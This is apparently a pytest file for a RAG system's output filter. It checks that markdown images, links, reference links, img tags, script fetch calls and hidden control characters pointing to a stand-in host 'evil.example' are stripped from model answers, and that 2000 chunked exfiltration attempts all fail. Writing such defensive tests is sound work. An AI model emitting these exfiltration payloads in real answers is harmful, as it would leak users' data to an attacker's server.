"""Model text made harmless, whole and in pieces."""

from __future__ import annotations

import pytest

from rag.generation.output_safety import OutputFilter, safe_text

from .exfiltration import attempts, leaks

EVIL = "https://evil.example/x?d=23"


def streamed(chunks: list[str]) -> str:
    filter_ = OutputFilter()
    return "".join(filter_.feed(c) for c in chunks) + filter_.finish()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"23 days ![a]({EVIL}) [1].", "23 days  [1]."),
        (f"23 days [see here]({EVIL}) [1].", "23 days see here [1]."),
        (f"23 days <img src='{EVIL}'> [1].", "23 days  [1]."),
        (f"23 days [r][k] [1].\n\n[k]: {EVIL}", "23 days r [1].\n\n"),
        (f"23 days {EVIL} [1].", "23 days  [1]."),
        (f"23 days <script>fetch('{EVIL}')</script> [1].", "23 days  [1]."),
        ("23 days\u202e\u200b\x1b[31m [1].", "23 days [1]."),
        ("[1]: https://evil.example", ""),
        ("[1](https://evil.example/a)", "[1]"),
    ],
)
def test_known_tricks_leave_only_their_words(text: str, shown: str) -> None:
    assert safe_text(text) == shown
    assert streamed(list(text)) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Full-time employees receive 23 days of annual leave [1].",
        "住宿标准为每晚480元[1][2]。超过部分由员工自行承担！",
        "Press e.g. the red key; see manual.pdf, section 3.2 (page 14) [2, 3].",
        "The ratio is 3:1 at 09:30, on 31/03/2026.",
        "**Note**: use `PX-77`, not A/B.\n\n- one\n- two [1]",
    ],
)
def test_ordinary_answers_pass_unchanged_however_they_are_cut(text: str) -> None:
    assert safe_text(text) == text
    assert streamed(list(text)) == text


def test_angle_brackets_stay_readable_but_cannot_open_a_tag() -> None:
    assert safe_text("if x < 5 and y > 3 [1]") == "if x ＜ 5 and y ＞ 3 [1]"


def test_an_address_of_a_source_is_shown_as_code_and_any_other_is_dropped() -> None:
    grounded = {"it@fernhollow.example", "https://intranet.example/forms"}.__contains__
    assert safe_text("Write to it@fernhollow.example.", grounded) == "Write to `it@fernhollow.example`."
    assert (
        safe_text("Forms: https://intranet.example/forms [1]", grounded)
        == "Forms: `https://intranet.example/forms` [1]"
    )
    assert safe_text("Forms: https://intranet.example/forms?d=1 [1]", grounded) == "Forms:  [1]"


def test_text_flows_before_the_end() -> None:
    filter_ = OutputFilter()
    shown = [filter_.feed(w) for w in ("Employees ", "receive ", "23 ", "days ")]
    assert "".join(shown) == "Employees receive 23 days "


def test_an_unclosed_bracket_does_not_hold_the_stream_for_ever() -> None:
    filter_ = OutputFilter()
    shown = "".join(filter_.feed("[word ") + filter_.feed("more " * 10) for _ in range(30))
    assert "more" in shown and "[" not in shown


def test_two_thousand_exfiltration_attempts_in_chunks_all_fail() -> None:
    through = [(text, shown, found) for text, chunks in attempts(2000) if (found := leaks(shown := streamed(chunks)))]
    assert through == []
